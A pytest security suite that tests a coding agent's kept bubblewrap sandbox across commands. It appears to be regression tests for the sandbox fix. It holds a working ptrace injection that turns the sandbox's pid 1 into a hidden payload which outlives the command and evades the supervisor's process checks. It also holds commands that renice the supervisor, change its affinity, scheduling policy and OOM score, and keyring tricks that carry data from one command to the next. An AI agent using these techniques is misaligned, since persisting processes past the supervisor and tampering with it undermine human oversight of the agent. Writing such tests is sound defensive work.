"""attacker5: the kept sandbox (safety/session_sandbox.py) through the real CLI: what one command
leaves for the next.

B1: the sandbox's init (pid 1, bubblewrap's own init inside the PID namespace) is dumpable and
of the command's user, so a command may ptrace it. ``kill(-1)`` never reaches a namespace's init,
the supervisor's ``others()`` leaves pid 1 out and the host's count expects it, so a command that
makes the init ``execve`` a program of its own leaves a process that outlives it, invisible to
every check: here it rewrites ``/tmp/EVIL-PID1`` every 20 ms, and the next command (after the
supervisor's reset) finds the file. Control: ``REASONIX_SANDBOX=per-call``, where the same
injection's init ends with its sandbox (the payload leaves at once when no supervisor is there),
and the next command finds a fresh ``/tmp``.

B2 (a variant of attacker4 B22, whose fix compares only the rlimits): the command's parent is
the supervisor, a process of the same user, so ``renice``/``taskset``/``chrt -i`` on ``$PPID``
change its nice value, CPU affinity and scheduling policy, and every later command inherits
them (nice 19 and SCHED_IDLE for the rest of the session; an unprivileged process cannot lower
its nice value back). Control: per call, the next command has the defaults.

B5: the kernel's user keyring (and the user-session keyring) belong to the sandbox's user
namespace, which lives as long as the kept sandbox: a key one command adds (``add_key`` into
``@u``) is there for the next to read; the supervisor looks at files, IPC and message queues, not
keyrings. Control: per call, a new user namespace has empty keyrings.

B10 (after B1/B2/B5's fix, a variant of B2): where the agent runs as root (containers, CI), the
supervisor's ``/proc`` files are root's and so the command's: ``echo 1000 >
/proc/$PPID/oom_score_adj`` (raising needs no privilege) and ``coredump_filter`` reach every later
command (both are inherited on fork); the comparison covers nice, affinity, policy and I/O
priority, not these. Control: per call, the next command has its own score.
"""

from __future__ import annotations

import platform
import shlex
import shutil

import pytest

from tests.security.support import Attack, Lab, lab

__all__ = ["lab"]

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(
        shutil.which("bwrap") is None, reason="bubblewrap (bwrap) is not installed; CI installs it"
    ),
]

#: Makes the sandbox's init (pid 1) run ``execve(python3 -c PAYLOAD)`` through ptrace: the
#: syscall instruction is written at the init's own instruction pointer (its stack is not
#: executable), the strings and argv below its stack pointer.
INJECT = r"""
import ctypes, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
ATTACH, DETACH, GETREGS, SETREGS, POKE, PEEK = 16, 17, 12, 13, 5, 2
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in (
        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags "
        "rsp ss fs_base gs_base ds es fs gs").split()]
def check(r, what):
    if r < 0:
        sys.exit(what + ": " + os.strerror(ctypes.get_errno()))
check(libc.ptrace(ATTACH, 1, None, None), "attach")
os.waitpid(1, 0)
print("attached-pid1", flush=True)
regs = Regs()
check(libc.ptrace(GETREGS, 1, None, ctypes.byref(regs)), "getregs")
argv = [sys.executable.encode(), b"-c", open(sys.argv[1], "rb").read()]
base = (regs.rsp - 65536) & ~0xF
blob, ptrs = b"", []
for a in argv:
    ptrs.append(base + len(blob))
    blob += a + b"\0"
blob += b"\0" * (-len(blob) % 8)
argv_at = base + len(blob)
blob += b"".join(struct.pack("<Q", p) for p in ptrs) + struct.pack("<Q", 0)
env_at = base + len(blob)
blob += struct.pack("<Q", 0)
for i in range(0, len(blob), 8):
    word = struct.unpack("<Q", blob[i:i + 8].ljust(8, b"\0"))[0]
    check(libc.ptrace(POKE, 1, ctypes.c_void_p(base + i), ctypes.c_void_p(word)), "poke")
old = libc.ptrace(PEEK, 1, ctypes.c_void_p(regs.rip), None) & 0xFFFFFFFFFFFFFFFF
code = (old & ~0xFFFF) | 0x050F
check(libc.ptrace(POKE, 1, ctypes.c_void_p(regs.rip), ctypes.c_void_p(code)), "poke code")
regs.rax, regs.orig_rax = 59, 0xFFFFFFFFFFFFFFFF
regs.rdi, regs.rsi, regs.rdx = ptrs[0], argv_at, env_at
check(libc.ptrace(SETREGS, 1, None, ctypes.byref(regs)), "setregs")
check(libc.ptrace(DETACH, 1, None, None), "detach")
print("injected", flush=True)
"""

#: What the init becomes: while a kept sandbox's supervisor is there, it keeps a file in /tmp.
PAYLOAD = """import os, time
def supervised():
    for n in os.listdir("/proc"):
        try:
            if n.isdigit() and int(n) != os.getpid() and b"reasonix-" + b"supervisor" in open(
                "/proc/%s/cmdline" % n, "rb"
            ).read():
                return True
        except OSError:
            pass
    return False
while supervised():
    try:
        with open("/tmp/EVIL-PID1", "w") as f:
            f.write("written by the init\\n")
    except OSError:
        pass
    time.sleep(0.02)
"""

LOOK = "cat /tmp/EVIL-PID1 2>&1; echo init=$(tr '\\0' ' ' < /proc/1/cmdline | cut -c1-40)"


def _init_steps(lab: Lab, **env: str) -> tuple[str, str]:
    (lab.root / "inject.py").write_text(INJECT)
    (lab.root / "payload.py").write_text(PAYLOAD)
    payload = shlex.quote(str(lab.root / "payload.py"))
    outcome = lab.attack(
        [
            Attack("inject", "bash", {"command": f"python3 inject.py {payload}; sleep 0.3"}),
            Attack("look", "bash", {"command": LOOK}),
        ],
        "--mode",
        "yolo",
        env=lab.env(**env) if env else None,
    )
    assert outcome.proc.returncode == 0, outcome.proc.stdout[-2000:]
    inject, look = outcome.results
    return inject, look


needs_x86_64 = pytest.mark.skipif(
    platform.machine() != "x86_64", reason="the injection writes x86-64 registers"
)


@needs_x86_64
def test_break_the_sandboxs_init_cannot_be_made_to_outlive_the_command(lab: Lab) -> None:
    _, look = _init_steps(lab)
    assert "written by the init" not in look, f"the next command found the init's file: {look}"


@needs_x86_64
def test_control_per_call_the_injected_init_ends_with_its_sandbox(lab: Lab) -> None:
    inject, look = _init_steps(lab, REASONIX_SANDBOX="per-call")
    if "attach: Operation not permitted" in inject:  # Yama's ptrace_scope >= 1 (Ubuntu's default)
        pytest.skip("ptrace of a process that is not a descendant is restricted on this machine")
    assert "attached-pid1" in inject and "injected" in inject, inject  # the probe works
    assert "written by the init" not in look and "No such file" in look, look
    assert "init=" in look and "bwrap" in look, look


# -- B2: the supervisor's nice value, CPU affinity and policy reach every later command ----------

LOWER = (
    "renice -n 19 -p $PPID >/dev/null && taskset -p 1 $PPID >/dev/null"
    " && chrt -i -p 0 $PPID && echo lowered-priority"
)
LOOK_PRIORITY = "echo nice=$(nice); taskset -p $$; chrt -p $$"


def _priority_steps(lab: Lab, **env: str) -> str:
    outcome = lab.attack(
        [
            Attack("lower", "bash", {"command": LOWER}),
            Attack("look", "bash", {"command": LOOK_PRIORITY}),
        ],
        "--mode",
        "yolo",
        env=lab.env(**env) if env else None,
    )
    assert outcome.proc.returncode == 0, outcome.proc.stdout[-2000:]
    lower, look = outcome.results
    if "lowered-priority" not in lower and "Operation not permitted" in lower:
        pytest.skip(f"this machine refuses the change itself: {lower}")
    assert "lowered-priority" in lower, lower
    return look


needs_tools = pytest.mark.skipif(
    any(shutil.which(t) is None for t in ("renice", "taskset", "chrt")),
    reason="renice/taskset/chrt (util-linux) are missing",
)


@needs_tools
def test_break_a_lowered_priority_reaches_the_next_command(lab: Lab) -> None:
    look = _priority_steps(lab)
    assert "nice=0" in look and "SCHED_IDLE" not in look, f"the next command inherited: {look}"


@needs_tools
def test_control_per_call_the_next_command_has_the_defaults(lab: Lab) -> None:
    look = _priority_steps(lab, REASONIX_SANDBOX="per-call")
    assert "nice=0" in look and "SCHED_OTHER" in look, look


# -- B5: a key in the sandbox's user keyring reaches the next command ----------------------------

KEYS = """import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
L, NAME = ctypes.c_long, b"reasonix-probe"
if sys.argv[1] == "add":  # add_key("user", name, payload, KEY_SPEC_USER_KEYRING)
    r = libc.syscall(248, b"user", NAME, b"EVIL-KEY", ctypes.c_size_t(8), L(-4))
    print("added-key" if r > 0 else "add failed: " + os.strerror(ctypes.get_errno()))
else:  # keyctl(KEYCTL_SEARCH, @u, "user", name), then KEYCTL_READ
    kid = libc.syscall(250, L(10), L(-4), b"user", NAME, L(0))
    if kid < 0:
        print("no key:", os.strerror(ctypes.get_errno()))
    else:
        buf = ctypes.create_string_buffer(64)
        n = libc.syscall(250, L(11), L(kid), buf, L(64))
        print("key:", buf.raw[:max(n, 0)].decode())
"""


def _key_steps(lab: Lab, **env: str) -> str:
    (lab.root / "keys.py").write_text(KEYS)
    outcome = lab.attack(
        [
            Attack("add", "bash", {"command": "python3 keys.py add"}),
            Attack("read", "bash", {"command": "python3 keys.py read"}),
        ],
        "--mode",
        "yolo",
        env=lab.env(**env) if env else None,
    )
    assert outcome.proc.returncode == 0, outcome.proc.stdout[-2000:]
    added, read = outcome.results
    if "add failed" in added:  # keyctl filtered (a container's seccomp profile)
        pytest.skip(f"no kernel keyrings here: {added}")
    assert "added-key" in added, added
    return read


@needs_x86_64
def test_break_a_key_does_not_reach_the_next_command(lab: Lab) -> None:
    read = _key_steps(lab)
    assert "EVIL-KEY" not in read, f"the next command read the key: {read}"


@needs_x86_64  # the syscall numbers
def test_control_per_call_the_keyring_is_empty(lab: Lab) -> None:
    read = _key_steps(lab, REASONIX_SANDBOX="per-call")
    assert "no key" in read and "EVIL-KEY" not in read, read


# -- B10: the supervisor's OOM score (root only: its /proc files are root's) reaches later commands


RAISE_OOM = "echo 1000 > /proc/$PPID/oom_score_adj && echo 0x3f > /proc/$PPID/coredump_filter"
LOOK_OOM = "echo oom=$(cat /proc/self/oom_score_adj) dump=$(cat /proc/self/coredump_filter)"


def _oom_steps(lab: Lab, **env: str) -> str:
    outcome = lab.attack(
        [
            Attack("raise", "bash", {"command": RAISE_OOM + " && echo raised-oom"}),
            Attack("look", "bash", {"command": LOOK_OOM}),
        ],
        "--mode",
        "yolo",
        env=lab.env(**env) if env else None,
    )
    assert outcome.proc.returncode == 0, outcome.proc.stdout[-2000:]
    raised, look = outcome.results
    if "raised-oom" not in raised:  # not root: the supervisor's /proc files are not ours
        pytest.skip(f"the supervisor's /proc files are not writable here: {raised}")
    return look


def test_break_a_raised_oom_score_does_not_reach_the_next_command(lab: Lab) -> None:
    look = _oom_steps(lab)
    assert "oom=1000 " not in look, f"the next command inherited: {look}"


def test_control_per_call_the_next_command_has_its_own_oom_score(lab: Lab) -> None:
    look = _oom_steps(lab, REASONIX_SANDBOX="per-call")
    assert "oom=" in look and "oom=1000 " not in look, look
